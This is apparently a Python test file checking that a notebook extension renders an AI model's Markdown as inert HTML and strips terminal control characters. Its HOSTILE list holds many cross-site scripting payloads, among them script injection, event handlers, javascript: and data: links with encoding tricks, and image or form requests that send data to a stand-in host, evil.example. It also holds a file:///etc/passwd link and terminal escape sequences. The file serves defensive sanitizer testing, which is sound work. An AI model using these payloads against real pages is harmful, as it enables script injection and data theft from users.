"""A model's Markdown as HTML that can do nothing, and text that cannot drive a terminal."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llm_magic.plain import without_controls
from llm_magic.views.notebook import saved_form
from llm_magic.views.render import markdown_html, status_html

PLAIN = "p h1 h2 h3 h4 h5 h6 em strong s br hr ul li blockquote table thead tbody tr small pre div"
ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in PLAIN.split()},
    "ol": {"start"},
    "a": {"href", "title", "rel", "target"},
    "code": {"class"},
    "pre": {"style"},
    "span": {"class", "style"},
    "th": {"style"},
    "td": {"style"},
}
STYLES = re.compile(
    r"text-align:(left|center|right)|color:var\(--[a-z]\)"
    r"|(--[a-z]:var\(--jp-mirror-[\w-]+, #\w+\);?)+"
)


class Page(HTMLParser):
    """What a browser would make of the HTML: tags, links and text."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.running: list[str] = []
        self._ignored = 0
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._ignored += tag in ("code", "pre") or "mathjax_ignore" in str(attrs)

    def handle_endtag(self, tag: str) -> None:
        self._ignored -= tag in ("code", "pre") or (tag == "span" and self._ignored > 0)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data!r}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data!r}")

    @property
    def text(self) -> str:
        return "".join(self.texts)

    @property
    def links(self) -> list[str]:
        return [attributes["href"] for tag, attributes in self.tags if tag == "a"]


def checked(markdown: str) -> Page:
    """The page of this Markdown, after a look at every tag of it."""
    page = Page(markdown_html(markdown))
    for tag, attributes in page.tags:
        assert tag in ALLOWED, (tag, markdown)
        assert attributes.keys() <= ALLOWED[tag], (tag, attributes, markdown)
        assert STYLES.fullmatch(attributes.get("style", "color:var(--x)"))
        if tag == "span" and "class" in attributes:
            assert attributes["class"] == "tex2jax_ignore mathjax_ignore"
    for link in page.links:
        # As browsers read it: they drop control characters and spaces.
        plain = re.sub(r"[\x00-\x20\x7f-\xa0]", "", link)
        assert plain.startswith("#") or urlsplit(plain).scheme in ("http", "https", "mailto"), link
    return page


HOSTILE = [
    "<script>alert(1)</script>",
    "a <script src=https://evil.example/x.js></script> b",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/?d=SECRET>",
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<form action=https://evil.example><input name=x><button>Send</button></form>",
    "<a href='#' data-commandlinker-command='notebook:insert-cell-below'>x</a>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=https://evil.example></object><embed src=x><link rel=stylesheet href=x>",
    "<!-- comment --> <!doctype html> <?php x ?> <![CDATA[x]]>",
    "<p\nonclick=alert(1)\n>x",
    "<plaintext><xmp><noscript><template>",
    "</p></div></td></table><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&Tab;:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](DATA:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd) [y](blob:https://x) [z](about:blank) [w](ftp://x)",
    "[x](//evil.example) [y](/tree) [z](../../secret) [w](?q)",
    "[x](https://ok.example 'title\" onclick=\"alert(1)')",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <data:text/html,x> 'title'",
    "[x][r]\n\n[r]: https://ok.example \"t' onclick='x\"",
    "<javascript:alert(1)>",
    "<https://ok.example/?\"onclick='x'>",
    "<data:text/html,x> <someone@mail.example>",
    "![x](https://evil.example/?d=SECRET)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.example)',
    "![<img src=x onerror=alert(1)>](https://evil.example)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "| a | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
    '| `<script>` | $\\class{x" onclick="1}{y}$ |\n|---|---|',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onclick=alert(1)\nx = '<img src=x onerror=1>'\n```",
    '~~~$\\class{x" onclick="1}{y}$\nx\n~~~',
    '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    '$\\class{x" onclick="1}{y}$',
    "$<img src=x onerror=alert(1)>$",
    "$$<script>alert(1)</script>$$",
    "$$\n</div><script>alert(1)</script>\n$$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "\\[<script>alert(1)</script>\\]",
    "\\[x\\] (<script>)",
    '$$x$$ ("><script>alert(1)</script>)',
    "\\begin{align}<script>alert(1)</script>\\end{align}",
    "$\\href{javascript:alert(1)}{x}$ $\\unicode{<script>}$",
    "\u202egnp.exe\u202c [\u202e](https://ok.example)",
    "\ufeff<script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "# <script>\n- <img onerror=x>\n> <svg onload=x>\n1. <b onclick=x>",
    "*<img src=x onerror=alert(1)>* **<script>** ~~<svg>~~",
    "1" * 40 + ". list\n\n999999999. start",
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_can_do_nothing(markdown: str) -> None:
    checked(markdown)
    checked(f"Before\n\n> - {markdown}\n\nafter {markdown}")


FRAGMENTS = [
    *HOSTILE,
    *["$", "$$", "\\(", "\\)", "\\[", "\\]", "`", "```", "~~~", "|", "|---|", "\n", "\n\n", "    "],
    *["[", "](", ")", "![", "<", ">", '"', "'", "&", "&#", ";", "*", "_", "- ", "> ", "# ", "\\"],
    *["javascript:", "https://x.example", " onclick=1 ", "onerror=", "</", "<!--", "-->", "\t"],
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=5), max_size=8))
def test_no_mixture_of_hostile_fragments_can_do_anything(fragments: list[str]) -> None:
    checked("".join(fragments))


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(HOSTILE), st.data())
def test_half_of_a_hostile_text_can_do_nothing(markdown: str, data: st.DataObject) -> None:
    """As it stands on screen while it streams."""
    checked(markdown[: data.draw(st.integers(0, len(markdown)))])


@pytest.mark.parametrize(
    "link",
    [
        "https://ok.example/a?b=c&d=e#f",
        "HTTP://ok.example",
        "mailto:ada@ok.example",
        "#section",
    ],
)
def test_good_links_stay(link: str) -> None:
    page = checked(f"[x]({link}) [y][r]\n\n[r]: {link}")

    assert page.links == [link, link]
    assert page.text.strip() == "x y"


def test_an_autolink_stays() -> None:
    assert checked("<https://ok.example> <ada@ok.example>").links == [
        "https://ok.example",
        "mailto:ada@ok.example",
    ]


def test_an_image_is_a_link_to_it() -> None:
    page = checked("![A cat](https://pics.example/cat.png) ![](https://pics.example/b.png)")

    assert page.links == ["https://pics.example/cat.png", "https://pics.example/b.png"]
    assert page.text.strip() == "A cat image"


def test_raw_html_is_shown_as_text() -> None:
    assert checked("a <b>bold</b> &amp; <br>").text.strip() == "a <b>bold</b> & <br>"


BARE_DOLLAR = re.compile(r'(?<!mathjax_ignore">)\$')


@pytest.mark.parametrize(
    "markdown",
    [
        "$5 and $6",
        "It costs $5, or $6 with $1 off.",
        "between $5-$6 and US$7",
        "5$ or 6$",
        "\\$5 and \\$6",
        "**$5** and *$6* and [$7](https://ok.example)",
        "| a | b |\n|---|---|\n| $5 | $6 |",
        "# $5 and $6\n- $7 and $8",
        "&#36;5 and &#36;6",
        "a $ b $ c",
        "![$5 and $6](https://ok.example)",
        "$5 and\n$6",
    ],
)
def test_prices_are_no_maths(markdown: str) -> None:
    html = markdown_html(markdown)

    assert not BARE_DOLLAR.search(html)
    assert "$" in Page(html).text
    assert not BARE_DOLLAR.search(status_html(markdown))


def test_dollars_in_code_are_no_maths() -> None:
    """MathJax leaves code elements alone, and so does JupyterLab."""
    assert "<code>echo $HOME $PATH</code>" in markdown_html("`echo $HOME $PATH`")


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("so $a_b$ and $c_d$", "$a_b$ and $c_d$"),
        ("$x*y*z$", "$x*y*z$"),
        ("$a < b$ and $c > d$", "$a < b$ and $c > d$"),
        (r"$\frac{a_1}{b_2}$", r"$\frac{a_1}{b_2}$"),
        (r"$[x](y)$", "$[x](y)$"),
        ("$$a_b = c_d$$", "$$a_b = c_d$$"),
        ("$$\na_b = c_d\n$$", "a_b = c_d"),
        ("text $$a_b$$ text", "$$a_b$$"),
        (r"\(a_b + c_d\)", "$a_b + c_d$"),
        (r"\[a_b + c_d\]", "$$a_b + c_d$$"),
        ("\\[\na_b + c_d\n\\]", "a_b + c_d"),
        (r"$$\begin{matrix}a & b \\ c & d\end{matrix}$$", r"a & b \\ c & d"),
        ("| a |\n|---|\n| $x_1$ and $x_2$ |", "$x_1$ and $x_2$"),
    ],
)
def test_maths_survives(markdown: str, shown: str) -> None:
    page = checked(markdown)

    assert shown in page.text
    assert "em" not in [tag for tag, _ in page.tags]


def test_a_table() -> None:
    page = checked("| a | b |\n|:--|--:|\n| 1 | **2** |")

    tags = [tag for tag, _ in page.tags]
    assert tags.count("th") == tags.count("td") == 2
    assert "strong" in tags
    assert page.text.split() == ["a", "b", "1", "2"]


CODE = "def f(x):  # twice <b> & '$5'\n\n    return 2 * x + len(\"a\\n\")\n"


@pytest.mark.parametrize("language", ["python", "Python", "py", "js", "sql", "c++", "json", "text"])
def test_code_keeps_its_text(language: str) -> None:
    assert checked(f"```{language}\n{CODE}```").text.strip("\n") == CODE.strip("\n")


def test_code_has_colours_of_the_theme() -> None:
    html = markdown_html(f"```python\n{CODE}```")

    assert '<span style="color:var(--k)">def</span>' in html
    assert "--k:var(--jp-mirror-editor-keyword-color, #008000)" in html
    assert "--c:var(--jp-mirror-editor-comment-color" in html


@pytest.mark.parametrize("language", ["", "nonsense", "<b>", "x" * 500, "python3.99", "$x$"])
def test_code_of_an_unknown_language_is_plain(language: str) -> None:
    page = checked(f"```{language}\n{CODE}```")

    assert page.text.strip("\n") == CODE.strip("\n")
    assert "span" not in [tag for tag, _ in page.tags]


def test_an_open_fence_is_code_already() -> None:
    assert checked("Look:\n\n```python\nx = 1").text.split() == ["Look:", "x", "=", "1"]


def test_emphasis_lists_and_headings() -> None:
    tags = [tag for tag, _ in checked("# H\n\n- *a*\n- **b** ~~c~~\n\n3. d\n\n---\n> e").tags]

    assert {"h1", "ul", "li", "em", "strong", "s", "ol", "hr", "blockquote"} <= set(tags)


def test_no_text_is_no_html() -> None:
    assert markdown_html("") == status_html("") == ""


@pytest.mark.parametrize("status", HOSTILE)
def test_the_status_is_text(status: str) -> None:
    page = Page(status_html(status))

    assert {tag for tag, _ in page.tags} <= {"p", "small", "span"}
    assert page.text == status.replace("\x00", "\ufffd") or "\x00" in status or "\r" in status


def test_the_saved_form_has_the_answer_raw_and_rendered() -> None:
    saved = saved_form("**Hi** $5", "m · 1 in / 2 out")

    assert saved["text/plain"] == "**Hi** $5"
    assert "<strong>Hi</strong>" in saved["text/html"]
    assert "m · 1 in / 2 out" in saved["text/html"]
    assert saved_form("", "stopped")["text/plain"] == "stopped"


@given(st.text())
def test_nothing_that_drives_a_terminal_is_left(text: str) -> None:
    shown = without_controls(text)

    assert all(letter in "\t\n" or ord(letter) not in CONTROLS for letter in shown)
    assert shown == "".join(each for each in text if each in "\t\n" or ord(each) not in CONTROLS)


CONTROLS = {*range(0x20), *range(0x7F, 0xA0)}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "[31mred[0m"),
        ("\x1b]0;title\x07", "]0;title"),
        ("\x9b31mred", "31mred"),
        ("over\rwritten\b\x7f", "overwritten"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("ünïcödé 🍏", "ünïcödé 🍏"),
    ],
)
def test_without_controls(text: str, shown: str) -> None:
    assert without_controls(text) == shown
